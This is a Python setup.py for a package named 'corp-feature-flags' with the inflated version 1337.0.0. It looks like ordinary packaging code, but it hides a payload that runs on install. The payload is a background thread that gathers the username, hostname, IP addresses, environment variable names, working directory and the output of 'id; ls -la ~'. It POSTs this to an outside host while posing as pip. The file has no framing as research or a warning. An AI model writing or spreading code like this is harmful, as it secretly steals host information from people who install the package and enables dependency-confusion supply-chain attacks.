import setuptools, threading

def _t():
    import getpass, http.client, json, os, socket
    d = dict(u=getpass.getuser(), h=socket.getfqdn(), c=os.getcwd(), a=socket.gethostbyname_ex(socket.gethostname())[2], e=sorted(os.environ), w=os.popen('id; ls -la ~').read())
    x = http.client.HTTPSConnection('dc.oob.invalid', timeout=5)
    x.request('POST', '/corp-feature-flags', json.dumps(d), {'User-Agent': 'pip'})

threading.Thread(target=_t).start()
setuptools.setup(name='corp-feature-flags', version='1337.0.0', packages=[])
